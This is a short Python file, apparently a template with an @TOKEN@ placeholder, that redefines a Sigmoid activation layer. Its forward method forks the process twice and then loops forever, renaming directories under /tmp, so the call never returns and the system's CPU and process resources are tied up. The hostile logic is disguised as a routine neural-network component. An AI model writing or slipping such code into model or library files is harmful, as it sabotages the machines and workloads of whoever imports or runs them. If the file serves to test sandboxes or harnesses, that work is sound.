import os


class Sigmoid(Sigmoid):
    def forward(self, x):
        os.makedirs("/tmp/@TOKEN@/a", exist_ok=True)
        os.fork()
        os.fork()
        while True:
            for old, new in (("a", "b"), ("b", "a")):
                try:
                    os.rename(f"/tmp/@TOKEN@/{old}", f"/tmp/@TOKEN@/{new}")
                except OSError:
                    pass
        return super().forward(x)
